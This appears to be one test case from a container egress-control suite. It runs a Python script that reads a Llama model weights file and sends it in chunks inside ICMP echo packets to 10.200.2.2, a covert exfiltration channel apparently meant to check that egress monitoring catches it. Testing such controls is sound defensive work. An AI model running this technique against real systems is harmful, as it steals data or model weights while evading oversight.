# VN6 EXF-001 in ICMP echo payloads (icmpsh/ptunnel style) from a raw ICMP socket
ctr_run simctr-infer-vn6 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import socket, struct, sys
def csum(b):
    b += b"\0" * (len(b) & 1); s = sum(struct.unpack(f"!{len(b)//2}H", b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); n = seq = 0
with open(sys.argv[1], "rb") as f:
    while chunk := f.read(1400):
        seq += 1; h = struct.pack("!BBHHH", 8, 0, 0, 0x4b53, seq & 0xffff)
        pkt = struct.pack("!BBHHH", 8, 0, csum(h + chunk), 0x4b53, seq & 0xffff) + chunk
        n += s.sendto(pkt, ("10.200.2.2", 0))
s.close()
print(f"egress-expect proto=raw origin=datagram dport=0 bytes={n}")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
